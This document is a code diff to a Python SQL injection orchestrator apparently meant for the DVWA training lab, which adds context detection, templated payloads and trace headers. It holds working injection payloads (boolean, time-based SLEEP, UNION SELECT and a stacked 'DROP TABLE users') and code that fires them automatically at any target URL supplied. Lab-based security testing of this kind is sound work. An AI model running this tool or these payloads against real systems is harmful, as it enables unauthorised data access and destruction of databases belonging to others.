@@ -5,9 +5,12 @@ Simple orchestrator for automated SQLi testing (controlled lab only).
 
 Features:
 - HTTP request module with retries and session
-- Parameterized payload generator (error-based, boolean-based, union template)
+- Template-based payload generator, lazily expanded per detected injection context
+  (numeric / single-quoted / double-quoted)
 - Response analyzer (error signature detection, boolean difference)
 - Structured logging to console and JSONL file
+- End-to-end trace stamping: every request carries a fresh X-Trace-ID plus
+  X-Payload-ID / X-Payload-Category so proxy, DB and result logs share one key
 
 Usage:
     python3 sqli_orchestrator.py --target "http://localhost:8080/vulnerabilities/sqli/?id={id}" --ids 1 2 3
@@ -18,8 +21,12 @@ import argparse
 import time
 import json
 import re
+import hashlib
+import uuid
 from copy import deepcopy
-from typing import List, Dict, Any
+from functools import lru_cache
+from typing import List, Dict, Any, Iterator, Optional, Tuple
+from urllib.parse import quote
 
 # -------------------------
 # Configuration / Constants
@@ -42,31 +49,86 @@ SQL_ERROR_PATTERNS = [
 # -------------------------
 # Payload Generator
 # -------------------------
+# Injection contexts detected from the baseline probes.
+#   q: quote that closes the original literal ("" for numeric params)
+#   c: trailing comment used to neutralise the rest of the original query
+CONTEXTS = {
+    "numeric": {"q": "", "c": " -- "},
+    "single":  {"q": "'", "c": " -- "},
+    "double":  {"q": "\"", "c": " -- "},
+}
+DEFAULT_CONTEXT = "single"
+# Returned by detection when the probes are inconclusive: payloads for every context are tried.
+UNKNOWN_CONTEXT = "unknown"
+
+# Payload templates: {q} and {c} come from CONTEXTS, {cols} is expanded lazily
+# for UNION column-count probing (NULL, NULL,NULL, ...). Only these three
+# placeholders are substituted; any other braces are kept literally.
+# "contexts" limits a template to the contexts where it makes sense (None = all).
+PAYLOAD_TEMPLATES = [
+    {"id": "err-squote",  "family": "error",   "template": "'",                          "contexts": None},
+    {"id": "err-dquote",  "family": "error",   "template": "\"",                         "contexts": None},
+    {"id": "err-stacked", "family": "error",   "template": "{q}; DROP TABLE users;{c}",  "contexts": None},  # obviously dangerous; do not use in real DBs (kept as example)
+    {"id": "bool-true",   "family": "boolean", "template": "{q} OR 1=1{c}",              "contexts": None},
+    {"id": "bool-false",  "family": "boolean", "template": "{q} OR 1=2{c}",              "contexts": None},
+    {"id": "bool-and0",   "family": "boolean", "template": "{q} AND 1=0{c}",             "contexts": None},
+    {"id": "bool-balanced", "family": "boolean", "template": "{q} OR {q}1{q}={q}1",      "contexts": ("single", "double")},
+    {"id": "bool-numeric",  "family": "boolean", "template": " OR 1=1",                  "contexts": ("numeric",)},
+    {"id": "time-sleep",  "family": "time",    "template": "{q} OR SLEEP(5){c}",         "contexts": None},  # timing-based (simple)
+    {"id": "union-null",  "family": "union",   "template": "{q} UNION SELECT {cols}{c}", "contexts": None},
+    {"id": "union-123",   "family": "union",   "template": "{q} UNION SELECT 1,2,3{c}",  "contexts": None},
+]
+
+@lru_cache(maxsize=4096)
+def render_payload(context: str, template: str, cols: int = 0) -> Tuple[str, str]:
+    """Render a template for a context; returns (raw, url_encoded). Memoized per context."""
+    ctx = CONTEXTS[context]
+    raw = (template.replace("{cols}", ",".join(["NULL"] * cols))
+                   .replace("{q}", ctx["q"])
+                   .replace("{c}", ctx["c"]))
+    return raw, quote(raw, safe="")
+
 class PayloadGenerator:
-    def __init__(self):
-        # Templates use {id} placeholder for numeric param, or we will inject into URL param
-        self.error_payloads = [
-            "'",
-            "\"",
-            "' OR 1=1 -- ",
-            "' OR SLEEP(5) -- ",        # timing-based (simple)
-            "'; DROP TABLE users; -- ", # obviously dangerous; do not use in real DBs (kept as example)
-        ]
-        self.boolean_payloads = [
-            "' OR 1=1 -- ",
-            "' OR 1=2 -- ",
-            "\" OR \"1\"=\"1",
-            "' AND 1=0 -- ",
-        ]
-        self.union_templates = [
-            "' UNION SELECT NULL-- ",
-            "' UNION SELECT 1,2,3-- ",
-        ]
-
-    def all_payloads(self) -> List[str]:
-        # Combine and deduplicate
-        out = list(dict.fromkeys(self.error_payloads + self.boolean_payloads + self.union_templates))
-        return out
+    def __init__(self, templates: Optional[List[Dict[str, Any]]] = None, max_union_columns: int = 3):
+        self.templates = templates if templates is not None else PAYLOAD_TEMPLATES
+        self.max_union_columns = max_union_columns
+
+    def _expand(self, tpl: Dict[str, Any]) -> Iterator[Tuple[str, int]]:
+        # yields (payload_id, cols) for one template
+        if "{cols}" in tpl["template"]:
+            for n in range(1, self.max_union_columns + 1):
+                yield f"{tpl['id']}-c{n}", n
+        else:
+            yield tpl["id"], 0
+
+    def iter_payloads(self, context: str = DEFAULT_CONTEXT) -> Iterator[Dict[str, Any]]:
+        """
+        Lazily yield context-appropriate payloads, skipping duplicate renderings.
+        UNKNOWN_CONTEXT yields the union over all contexts, deduplicated the same way.
+        """
+        contexts = list(CONTEXTS) if context == UNKNOWN_CONTEXT else [context]
+        seen = set()  # 8-byte digests instead of full payload strings
+        for ctx in contexts:
+            for tpl in self.templates:
+                if tpl["contexts"] and ctx not in tpl["contexts"]:
+                    continue
+                for payload_id, cols in self._expand(tpl):
+                    raw, encoded = render_payload(ctx, tpl["template"], cols)
+                    digest = hashlib.blake2b(raw.encode(), digest_size=8).digest()
+                    if digest in seen:
+                        continue
+                    seen.add(digest)
+                    yield {
+                        "payload_id": payload_id,
+                        "category": tpl["family"],
+                        "context": ctx,
+                        "payload": raw,
+                        "encoded": encoded,
+                    }
+
+    def all_payloads(self, context: str = DEFAULT_CONTEXT) -> List[str]:
+        # Materialized raw payloads for one context (kept for callers that want a list)
+        return [p["payload"] for p in self.iter_payloads(context)]
 
 # -------------------------
 # HTTP Client
@@ -80,11 +142,11 @@ class HttpClient:
             "User-Agent": "Automated-SQLi-Orchestrator/1.0"
         })
 
-    def get(self, url, params=None) -> requests.Response:
+    def get(self, url, params=None, headers=None) -> requests.Response:
         attempt = 0
         while True:
             try:
-                resp = self.session.get(url, params=params, timeout=self.timeout)
+                resp = self.session.get(url, params=params, headers=headers, timeout=self.timeout)
                 return resp
             except requests.RequestException as e:
                 attempt += 1
@@ -121,6 +183,12 @@ class Analyzer:
             return {"type": "boolean-content-diff", "diff_count": len(owords.symmetric_difference(mwords))}
         return {"type": None}
 
+    def same_response(self, original_text: str, mutated_text: str) -> bool:
+        # No SQL error and no boolean difference -> treat as the same page
+        if self.detect_error_based(mutated_text)["type"]:
+            return False
+        return self.detect_boolean_based(original_text, mutated_text)["type"] is None
+
 # -------------------------
 # Orchestrator
 # -------------------------
@@ -136,27 +204,68 @@ class Orchestrator:
         self.generator = generator
         self.analyzer = analyzer
 
+    @staticmethod
+    def trace_headers(payload_id: str, category: str) -> Dict[str, str]:
+        # mint a trace id per request; the proxy reuses it and stamps it into the SQL
+        return {
+            "X-Trace-ID": str(uuid.uuid4()),
+            "X-Payload-ID": payload_id,
+            "X-Payload-Category": category,
+        }
+
+    def _probe_same(self, base_text: str, probe_id: str) -> bool:
+        time.sleep(0.15)
+        resp = self.client.get(self.target_template.format(id=quote(probe_id, safe="")),
+                               headers=self.trace_headers("context-probe", "probe"))
+        return self.analyzer.same_response(base_text, resp.text)
+
+    def detect_context(self, id_val: str, base_text: str) -> str:
+        """
+        Guess how the id is embedded in the query using a few baseline probes:
+        - numeric: "{id+1}-1" evaluates back to id, and the negative control
+          "{id}-{id}" must differ: unquoted it is 0, while a quoted '1-1' casts
+          back to 1 (so the control cannot land on a neighbouring row)
+        - single/double: a lone quote breaks the page, a doubled quote does not
+        Returns UNKNOWN_CONTEXT when nothing is conclusive.
+        """
+        try:
+            if id_val.isdigit() and int(id_val) != 0:
+                if not self._probe_same(base_text, f"{id_val}-{id_val}") and \
+                        self._probe_same(base_text, f"{int(id_val) + 1}-1"):
+                    return "numeric"
+            for ctx in ("single", "double"):
+                q = CONTEXTS[ctx]["q"]
+                if not self._probe_same(base_text, f"{id_val}{q}") and self._probe_same(base_text, f"{id_val}{q}{q}"):
+                    return ctx
+        except requests.RequestException as e:
+            print(f"[!] Context probe failed for id={id_val}: {e}")
+        print(f"[!] Context probes inconclusive for id={id_val}; trying payloads for all contexts")
+        return UNKNOWN_CONTEXT
+
     def run(self):
-        payloads = self.generator.all_payloads()
         results = []
         for id_val in self.ids:
             base_url = self.target_template.format(id=id_val)
             print(f"\n[*] Testing parameter id={id_val} -> {base_url}")
             try:
-                base_resp = self.client.get(base_url)
+                base_resp = self.client.get(base_url, headers=self.trace_headers("baseline", "baseline"))
                 base_text = base_resp.text
             except Exception as e:
                 print(f"[!] Could not fetch base page for id={id_val}: {e}")
                 continue
 
-            for payload in payloads:
-                # inject payload into id param by replacing the numeric part or appending
-                # safest: craft URL with id param replaced
-                injected_id = f"{id_val}{payload}"
+            context = self.detect_context(id_val, base_text)
+            print(f"[*] Detected {context} context for id={id_val}")
+
+            for item in self.generator.iter_payloads(context):
+                # inject payload into id param by appending the pre-encoded form
+                payload = item["payload"]
+                injected_id = f"{quote(id_val, safe='')}{item['encoded']}"
                 test_url = self.target_template.format(id=injected_id)
+                trace_headers = self.trace_headers(item["payload_id"], item["category"])
                 time.sleep(0.15)  # small delay to avoid flooding
                 try:
-                    resp = self.client.get(test_url)
+                    resp = self.client.get(test_url, headers=trace_headers)
                     text = resp.text
                 except Exception as e:
                     print(f"[!] Request failed for payload {payload!r}: {e}")
@@ -176,10 +285,15 @@ class Orchestrator:
 
                 result_obj = {
                     "timestamp": time.time(),
+                    "trace_id": trace_headers["X-Trace-ID"],
                     "target": test_url,
                     "id_param": id_val,
                     "payload": payload,
+                    "payload_id": item["payload_id"],
+                    "category": item["category"],
+                    "context": item["context"],
                     "status_code": resp.status_code,
+                    "elapsed_ms": round(resp.elapsed.total_seconds() * 1000, 2),
                     "verdict": verdict,
                     "details": analysis if analysis["type"] else bool_analysis
                 }
@@ -203,6 +317,7 @@ def parse_args():
     p = argparse.ArgumentParser(description="Simple SQLi orchestrator for DVWA (lab only).")
     p.add_argument("--target", required=True, help='Target URL template with {id}, e.g. "http://localhost:8080/vulnerabilities/sqli/?id={id}"')
     p.add_argument("--ids", required=True, nargs="+", help="List of id values to test (e.g. 1 2 3)")
+    p.add_argument("--max-union-columns", type=int, default=3, help="Highest column count tried by UNION NULL templates")
     return p.parse_args()
 
 def main():
@@ -214,7 +329,7 @@ def main():
         return
 
     client = HttpClient()
-    gen = PayloadGenerator()
+    gen = PayloadGenerator(max_union_columns=args.max_union_columns)
     analyzer = Analyzer()
     orchestrator = Orchestrator(args.target, args.ids, client, gen, analyzer)
     results = orchestrator.run()